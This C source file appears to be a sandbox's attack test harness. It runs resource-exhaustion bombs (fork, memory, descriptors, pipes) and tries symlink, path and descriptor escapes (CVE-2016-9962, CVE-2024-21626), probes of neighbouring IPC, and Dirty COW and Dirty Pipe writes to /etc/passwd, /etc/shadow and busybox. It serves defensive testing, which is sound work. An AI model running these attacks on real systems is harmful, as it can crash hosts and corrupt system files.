/* payload: the attacks that need more than one call and one process: two sandboxes, a hostile workspace, or a limit.
 *
 * usage: payload ACT [ARG]   Status 0: the attack was refused, or met its limit; 1: it worked, with what was got on
 * stdout. */
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "selftest.h"

#define KEY 0x62697679
#define NAME "bivy-attack"

static void say(const char *format, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *format, ...)
{
    va_list arguments;

    va_start(arguments, format);
    vdprintf(1, format, arguments);
    va_end(arguments);
}

static int worked(const char *what)
{
    say("worked: %s\n", what);
    return 1;
}

/* Tells the test that all is in place, and keeps it so until the test has looked. */
static void hold(const char *what)
{
    say("%s\n", what);
    while (access("/workspace/release", F_OK))
        nanosleep(&(struct timespec){.tv_nsec = 2000000}, NULL);
}

/* ---- bombs: each goes on until something stops it ---- */

static int met(const char *what, long count, int error, const char *expected)
{
    say("%s: %ld, then %s\n", what, count, strerrorname_np(error));
    if (!strstr(expected, strerrorname_np(error)))
        return worked("another end than the limit's");
    hold("reached");
    return 0;
}

static int bomb_fork(void)
{
    pid_t pid;
    long count = 0;
    int error;

    while ((pid = fork()) > 0)
        count++;
    error = errno;
    if (pid == 0)
        for (;;)
            pause();
    int verdict = met("processes", count, error, "EAGAIN");
    kill(-1, SIGKILL);
    return verdict;
}

static int bomb_zombies(void)
{
    pid_t pid;
    long count = 0;

    while ((pid = fork()) > 0)
        count++;
    if (pid == 0)
        _exit(0);
    return met("zombies", count, errno, "EAGAIN");
}

static int bomb_wild(void)
{
    for (;;)
        if (fork() < 0 && sched_yield() < 0)
            return 1;
}

static void *sleep_for_ever(void *unused)
{
    for (;;)
        pause();
    return unused;
}

static int bomb_threads(void)
{
    pthread_attr_t attr;
    pthread_t thread;
    long count = 0;
    int error;

    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, 64 << 10);
    while (!(error = pthread_create(&thread, &attr, sleep_for_ever, NULL)))
        count++;
    return met("threads", count, error, "EAGAIN");
}

static int bomb_memory(void)
{
    for (;;) {
        volatile char *memory = malloc(1 << 20);
        if (!memory)
            return worked("an end by error, not by the memory limit");
        for (size_t at = 0; at < 1 << 20; at += 4096)
            memory[at] = 'x';
    }
}

/* A name that a record, a log line or a terminal might stumble over. */
static int bomb_named(void)
{
    prctl(PR_SET_NAME, "\"\n\033[2J\\\xff,x");
    return bomb_memory();
}

static int bomb_memfd(void)
{
    static char block[1 << 20];

    memset(block, 'x', sizeof block);
    for (int fd = memfd_create("x", 0);;)
        if (write(fd, block, sizeof block) < 0)
            return worked("an end by error, not by the memory limit");
}

static int bomb_shm(void)
{
    for (;;) {
        int id = shmget(IPC_PRIVATE, 8 << 20, IPC_CREAT | 0600);
        char *memory = id < 0 ? (char *)-1 : shmat(id, NULL, 0);
        if (memory == (char *)-1)
            return worked("an end by error, not by the memory limit");
        memset(memory, 'x', 8 << 20);
    }
}

static int bomb_tmpfs(void)
{
    static char block[1 << 20];
    int fd = open("/dev/shm/x", O_WRONLY | O_CREAT, 0600);
    long count = 0;

    memset(block, 'x', sizeof block);
    while (fd >= 0 && write(fd, block, sizeof block) == (ssize_t)sizeof block)
        count++;
    if (write(fd, block, sizeof block) >= 0)
        return worked("a write behind the end of scratch");
    int verdict = met("MiB of scratch", count, errno, "ENOSPC");
    unlink("/dev/shm/x");
    return verdict;
}

static int bomb_inodes(void)
{
    char path[64];
    long count = 0;

    for (;; count++) {
        snprintf(path, sizeof path, "/tmp/%ld", count);
        if (mknod(path, S_IFREG | 0600, 0))
            return met("inodes", count, errno, "ENOSPC");
    }
}

static int bomb_fds(void)
{
    long count = 0;

    while (open("/dev/null", O_RDONLY) >= 0)
        count++;
    return met("descriptors", count, errno, "EMFILE");
}

/* Descriptors in flight belong to no process: only RLIMIT_NOFILE of the user bounds them (unix(7), ETOOMANYREFS). */
static int bomb_fds_in_flight(void)
{
    union {
        struct cmsghdr header;
        char room[CMSG_SPACE(sizeof(int))];
    } control;
    char word[] = "x";
    long count = 0;

    for (;;) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair))
            return met("descriptors in flight", count, errno, "EMFILE");
        for (;; count++) {
            struct iovec data = {word, 1};
            struct msghdr message = {
                .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
            control.header =
                (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
            memcpy(CMSG_DATA(&control.header), &pair[1], sizeof(int));
            if (sendmsg(pair[0], &message, 0) == 1)
                continue;
            if (errno != EAGAIN)
                return met("descriptors in flight", count, errno, "ETOOMANYREFS");
            break; /* this queue is full */
        }
    }
}

static bool send_descriptor(int through, int fd)
{
    union {
        struct cmsghdr header;
        char room[CMSG_SPACE(sizeof(int))];
    } control;
    char word[] = "x";
    struct iovec data = {word, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};

    control.header = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
    memcpy(CMSG_DATA(&control.header), &fd, sizeof fd);
    return sendmsg(through, &message, 0) == 1;
}

/* Leaves two thirds of what a user may have in flight, in circles that nobody can reach any more. */
static int leave_crossed_sockets(const char *unused)
{
    (void)unused;
    for (int i = 0; i < 220; i++) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) || !send_descriptor(pair[0], pair[0]) || !send_descriptor(pair[1], pair[0]) ||
            !send_descriptor(pair[1], pair[1])) {
            say("pair %d: %s\n", i, strerrorname_np(errno));
            return 1;
        }
    }
    return 0;
}

static int bomb_ptys(void)
{
    long count = 0;

    while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0)
        count++;
    return met("terminals", count, errno, "ENOSPC");
}

static int bomb_output(void)
{
    static char block[1 << 16];

    memset(block, 'x', sizeof block);
    for (;;)
        if (write(1, block, sizeof block) < 0)
            return 1;
}

static int bomb_timers(void)
{
    struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGRTMIN};
    timer_t timer;
    long count = 0;

    while (count < 100000 && !timer_create(CLOCK_MONOTONIC, &event, &timer))
        count++;
    return met("timers", count, errno, "EAGAIN");
}

static int bomb_signals(void)
{
    union sigval value = {0};
    sigset_t set;
    long count = 0;

    sigfillset(&set);
    sigprocmask(SIG_BLOCK, &set, NULL);
    while (count < 100000 && !sigqueue(getpid(), SIGRTMIN, value))
        count++;
    return met("queued signals", count, errno, "EAGAIN");
}

static int bomb_mq(void)
{
    struct mq_attr attr = {.mq_maxmsg = 10, .mq_msgsize = 8192};
    char name[32];
    long count = 0;

    for (;; count++) {
        snprintf(name, sizeof name, "/q%ld", count);
        if (mq_open(name, O_RDWR | O_CREAT | O_EXCL, 0600, &attr) < 0)
            return met("message queues", count, errno, "EMFILE ENOSPC");
    }
}

static int bomb_inotify(void)
{
    long count = 0;

    while (inotify_init1(0) >= 0)
        count++;
    return met("inotify instances", count, errno, "EMFILE");
}

/* Pipes by the hundred, each as large as it may be: an account of the user (pipe-user-pages-soft), and the cgroup's
 * memory. */
static int bomb_pipes(void)
{
    static char block[1 << 20];
    long count = 0;
    int ends[2];

    while (!pipe2(ends, O_NONBLOCK)) {
        fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        while (write(ends[1], block, sizeof block) > 0)
            ;
        count++;
    }
    return met("full pipes", count, errno, "EMFILE ENFILE");
}

static const struct {
    const char *name;
    int (*run)(void);
} bombs[] = {
    {"fork", bomb_fork},     {"zombies", bomb_zombies}, {"wild", bomb_wild},     {"threads", bomb_threads},
    {"memory", bomb_memory}, {"named", bomb_named},     {"memfd", bomb_memfd},   {"shm", bomb_shm},
    {"tmpfs", bomb_tmpfs},   {"inodes", bomb_inodes},   {"fds", bomb_fds},       {"flight", bomb_fds_in_flight},
    {"ptys", bomb_ptys},     {"output", bomb_output},   {"timers", bomb_timers}, {"signals", bomb_signals},
    {"mq", bomb_mq},         {"inotify", bomb_inotify}, {"pipes", bomb_pipes},
};

static int bomb(const char *name)
{
    for (size_t i = 0; name && i < sizeof bombs / sizeof bombs[0]; i++)
        if (!strcmp(bombs[i].name, name))
            return bombs[i].run();
    return 2;
}

/* ---- two sandboxes ---- */

static socklen_t abstract_name(struct sockaddr_un *address)
{
    *address = (struct sockaddr_un){.sun_family = AF_UNIX};
    memcpy(address->sun_path + 1, NAME, sizeof NAME - 1);
    return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + sizeof NAME);
}

static int place_things(const char *unused)
{
    struct sockaddr_un address;
    socklen_t length = abstract_name(&address);
    struct msgbuf message = {.mtype = 1};
    int server = socket(AF_UNIX, SOCK_STREAM, 0), shm = shmget(KEY, 4096, IPC_CREAT | 0666),
        queue = msgget(KEY, IPC_CREAT | 0666);
    char *memory = shm < 0 ? (char *)-1 : shmat(shm, NULL, 0);

    (void)unused;
    if (bind(server, (struct sockaddr *)&address, length) || listen(server, 4) || memory == (char *)-1 ||
        msgsnd(queue, &message, 1, 0) || semget(KEY, 1, IPC_CREAT | 0666) < 0 ||
        mq_open("/" NAME, O_RDWR | O_CREAT, 0666, NULL) < 0 || open("/dev/shm/" NAME, O_RDWR | O_CREAT, 0666) < 0 ||
        open("/tmp/" NAME, O_RDWR | O_CREAT, 0666) < 0 || open("/dev/ptmx", O_RDWR) < 0)
        return worked("nothing: the things could not be placed");
    strcpy(memory, NAME);
    hold("placed");
    return 0;
}

static int look_for_things(const char *unused)
{
    struct sockaddr_un address;
    socklen_t length = abstract_name(&address);

    (void)unused;
    if (!connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, length) || errno != ECONNREFUSED)
        return worked("the abstract socket of a neighbour");
    if (shmget(KEY, 4096, 0) >= 0 || errno != ENOENT)
        return worked("SysV shared memory of a neighbour");
    if (msgget(KEY, 0) >= 0 || errno != ENOENT)
        return worked("a SysV message queue of a neighbour");
    if (semget(KEY, 1, 0) >= 0 || errno != ENOENT)
        return worked("SysV semaphores of a neighbour");
    for (int id = 0; id < 100; id++)
        if (shmat(id, NULL, SHM_RDONLY) != (void *)-1)
            return worked("SysV shared memory of a neighbour by number");
    if (mq_open("/" NAME, O_RDONLY) >= 0 || errno != ENOENT)
        return worked("a POSIX message queue of a neighbour");
    if (open("/dev/shm/" NAME, O_RDONLY) >= 0 || open("/tmp/" NAME, O_RDONLY) >= 0 || errno != ENOENT)
        return worked("scratch of a neighbour");
    if (open("/dev/pts/0", O_RDWR | O_NOCTTY) >= 0 || errno != ENOENT)
        return worked("the terminal of a neighbour");
    for (pid_t pid = 2; pid < 40000; pid++)
        if (pid != getpid() && !kill(pid, 0))
            return worked("a process of a neighbour");
    return 0;
}

/* A lock on what all sandboxes share must neither be had while bivy needs it nor keep the next run out. */
static int lock_the_root(const char *unused)
{
    int root = open("/", O_RDONLY | O_DIRECTORY);

    (void)unused;
    if (!flock(root, LOCK_EX | LOCK_NB) || errno != EWOULDBLOCK)
        return worked("an exclusive lock on the rootfs");
    if (fcntl(open("/bin/busybox", O_RDONLY), F_SETLEASE, F_RDLCK) != -1)
        return worked("a lease on a file of the rootfs");
    hold("placed");
    return 0;
}

/* ---- the workspace ---- */

/* Ids and capabilities as a program started from a set-id file, or one with file capabilities, sees them. */
static int show_ids(const char *unused)
{
    uid_t ruid, euid, suid;
    gid_t rgid, egid, sgid;
    char text[4096];
    int fd = open("/proc/self/status", O_RDONLY);
    ssize_t got = read(fd, text, sizeof text - 1);

    (void)unused;
    text[got > 0 ? got : 0] = '\0';
    getresuid(&ruid, &euid, &suid);
    getresgid(&rgid, &egid, &sgid);
    if (ruid != 1000 || euid != 1000 || suid != 1000 || rgid != 1000 || egid != 1000 || sgid != 1000)
        return worked("another id");
    return strstr(text, "CapPrm:\t0000000000000000\n") && strstr(text, "CapEff:\t0000000000000000\n")
               ? 0
               : worked("a capability");
}

static int open_nodes(const char *unused)
{
    static const char *const nodes[] = {"/workspace/null", "/workspace/mem", "/workspace/disk"};

    (void)unused;
    for (size_t i = 0; i < sizeof nodes / sizeof nodes[0]; i++)
        if (open(nodes[i], O_RDWR | O_NONBLOCK) >= 0 || open(nodes[i], O_RDONLY | O_NONBLOCK) >= 0 || errno != EACCES)
            return worked(nodes[i]);
    return 0;
}

/* Everything that would touch the tree beside the workspace. path: its absolute name on the host. */
static int reach_out(const char *path)
{
    char name[4096], own[64];
    int fd;

    if (!path)
        return 2;
    if (!access(path, F_OK))
        return worked("a path of the host");
    for (int up = 1; up < 12; up++) {
        size_t used = 0;
        for (int i = 0; i < up; i++)
            used += (size_t)snprintf(name + used, sizeof name - used, "../");
        snprintf(name + used, sizeof name - used, "outside/secret");
        if (open(name, O_RDONLY) >= 0 || !linkat(AT_FDCWD, name, AT_FDCWD, "stolen", 0) || !rename(name, "stolen"))
            return worked(name);
        snprintf(own, sizeof own, "up%d", up);
        if (symlink(name, own) || (fd = open(own, O_WRONLY | O_CREAT, 0600)) >= 0)
            return worked("a symlink out");
    }
    if (symlink(path, "absolute") || open("absolute", O_RDWR) >= 0 || !truncate("absolute", 0))
        return worked("an absolute symlink out");
    /* What the owner of the workspace had planted: the links point out of it. */
    if (open("planted", O_RDWR) >= 0 || open("planted-directory/secret", O_RDONLY) >= 0 || !chmod("planted", 0777) ||
        !rename("planted-directory/secret", "stolen") || !link("planted-directory/secret", "stolen"))
        return worked("a planted symlink");
    fd = open("/workspace", O_RDONLY | O_DIRECTORY);
    if (openat(fd, "../outside/secret", O_RDONLY) >= 0 || !link("/etc/passwd", "stolen") || errno != EXDEV ||
        !rename("/workspace", "/tmp/w") || !rename("/workspace/payload", "/payload") || !rmdir("/workspace"))
        return worked("a way round the mount");
    return 0;
}

/* CVE-2016-9962, 2024-21626: a directory of the host that somebody left open, or the working directory itself. */
static int leave_by_descriptor(const char *unused)
{
    struct stat root, up;

    (void)unused;
    for (int fd = 3; fd < 1024; fd++)
        if (!fchdir(fd) || errno != EBADF || openat(fd, "..", O_PATH) >= 0)
            return worked("a directory that was left open");
    for (int fd = 0; fd < 3; fd++)
        if (!fchdir(fd) || openat(fd, "..", O_PATH) >= 0)
            return worked("a directory as standard stream");
    if (stat("/", &root) || stat("/proc/self/cwd/..", &up) || root.st_ino != up.st_ino || root.st_dev != up.st_dev)
        return worked("a working directory of the host");
    if (!mkdir("inner", 0700) && (!chroot("inner") || errno != EPERM))
        return worked("the first chroot of a double one");
    return 0;
}

/* ---- pages of the rootfs ---- */

static const char *const precious[] = {"/bin/busybox", "/etc/passwd", "/etc/shadow", "/lib/ld-musl-x86_64.so.1",
                                       "/lib/ld-musl-aarch64.so.1"};

static void *discard(void *memory)
{
    for (int i = 0; i < 20000; i++)
        madvise(memory, 4096, MADV_DONTNEED);
    return NULL;
}

static int write_pages(const char *unused)
{
    (void)unused;
    for (size_t i = 0; i < sizeof precious / sizeof precious[0]; i++) {
        int fd = open(precious[i], O_RDONLY), ends[2], null = open("/dev/null", O_RDWR);
        long long offset = 1;
        pthread_t thread;
        char *own, *shared, byte = '!';

        if (fd < 0)
            continue; /* another architecture, or not readable: then there is nothing to map either */
        if (open(precious[i], O_RDWR) >= 0 || !truncate(precious[i], 0) || !unlink(precious[i]) ||
            !rename("/workspace/payload", precious[i]) || !chmod(precious[i], 0777))
            return worked(precious[i]);
        if (pwrite(fd, &byte, 1, 0) != -1 || mmap(NULL, 4096, PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED)
            return worked("a descriptor open for reading");
        shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
        own = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
        if (shared == MAP_FAILED || own == MAP_FAILED)
            return worked("nothing: the file cannot be mapped");
        if (!mprotect(shared, 4096, PROT_READ | PROT_WRITE))
            return worked("mprotect of a shared mapping");
        /* Dirty COW: a private page thrown away while it is written. */
        mprotect(own, 4096, PROT_READ | PROT_WRITE);
        if (pthread_create(&thread, NULL, discard, own))
            return worked("nothing: no thread");
        for (int turn = 0; turn < 20000; turn++)
            *(volatile char *)(own + 1) = byte;
        pthread_join(thread, NULL);
        if (open("/proc/self/mem", O_RDWR) >= 0)
            return worked("/proc/self/mem");
        /* Dirty Pipe: a full pipe emptied, a page of the file spliced in, the pipe written. */
        if (pipe(ends))
            return worked("nothing: no pipe");
        fcntl(ends[1], F_SETFL, O_NONBLOCK);
        while (write(ends[1], own, 4096) > 0)
            ;
        fcntl(ends[0], F_SETFL, O_NONBLOCK);
        while (read(ends[0], own, 4096) > 0)
            ;
        if (syscall(SYS_splice, fd, &offset, ends[1], NULL, 1L, 0) != -1 || errno != EINVAL)
            return worked("splice");
        if (write(ends[1], &byte, 1) != 1)
            return worked("nothing: the pipe is broken");
        if (copy_file_range(null, NULL, fd, NULL, 1, 0) > 0 || !fallocate(fd, 0, 0, 4096))
            return worked("copy_file_range or fallocate");
        munmap(shared, 4096);
        munmap(own, 4096);
    }
    return 0;
}

/* ---- what only a weakened sandbox shows ---- */

/* The caller's session keyring holds a key of this name: the filter refuses the question; without it the new keyring
 * does. */
static int look_for_key(const char *unused)
{
    long key = syscall(SYS_keyctl, 10L /* KEYCTL_SEARCH */, -3L, "user", NAME, 0L);

    (void)unused;
    say("keyctl: %s\n", key < 0 ? strerrorname_np(errno) : "found");
    return key < 0 ? 0 : worked("a key of the caller");
}

static int look_for_groups(const char *unused)
{
    gid_t groups[64];

    (void)unused;
    return getgroups(64, groups) == 0 ? 0 : worked("a supplementary group of the caller");
}

static int nested_namespaces(const char *unused)
{
    (void)unused;
    return unshare(CLONE_NEWUSER) ? 0 : worked("a user namespace");
}

static int burn(const char *unused)
{
    struct timespec start, now;

    (void)unused;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do
        clock_gettime(CLOCK_MONOTONIC, &now);
    while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < 400);
    return 0;
}

/* Bounded: there may be no limit. */
static int eat(const char *unused)
{
    size_t length = 90 << 20;
    volatile char *memory = malloc(length); /* else the compiler sees that nobody reads it */

    (void)unused;
    for (size_t at = 0; memory && at < length; at += 4096)
        memory[at] = 'x';
    return memory ? 0 : 1;
}

static int attack_as_command(const char *unused)
{
    (void)unused;
    return selftest_command();
}

static int make_many(const char *directory)
{
    char name[32];

    if (chdir(directory))
        return 1;
    for (int i = 0; i < 100000; i++) {
        snprintf(name, sizeof name, "%d", i);
        if (mknod(name, S_IFREG | 0600, 0))
            return 1;
    }
    return 0;
}

static const struct {
    const char *name;
    int (*run)(const char *argument);
} acts[] = {
    {"selftest", attack_as_command},
    {"bomb", bomb},
    {"place", place_things},
    {"look", look_for_things},
    {"lock", lock_the_root},
    {"ids", show_ids},
    {"nodes", open_nodes},
    {"reach", reach_out},
    {"pages", write_pages},
    {"key", look_for_key},
    {"groups", look_for_groups},
    {"nested", nested_namespaces},
    {"leave", leave_by_descriptor},
    {"burn", burn},
    {"eat", eat},
    {"many", make_many},
    {"crossed", leave_crossed_sockets},
};

int main(int argc, char **argv)
{
    for (size_t i = 0; argc > 1 && i < sizeof acts / sizeof acts[0]; i++)
        if (!strcmp(acts[i].name, argv[1]))
            return acts[i].run(argv[2]);
    return 2;
}
